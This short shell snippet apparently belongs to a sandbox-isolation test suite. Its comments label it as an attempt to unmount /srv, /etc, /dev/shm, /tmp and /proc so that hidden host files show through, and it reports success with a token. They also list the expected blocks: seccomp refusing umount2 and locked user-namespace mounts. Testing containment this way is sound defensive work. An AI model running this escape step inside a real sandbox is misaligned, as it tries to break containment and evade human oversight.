# title: unmounts what hides the host's files
# harm: obtains
# B: seccomp refuses umount2
# C: seccomp refuses umount2; mounts of another user namespace are locked
for m in /srv /etc /dev/shm /tmp /proc; do umount -l "$m" 2>/dev/null && echo "OBTAINED $TOKEN" && break; done
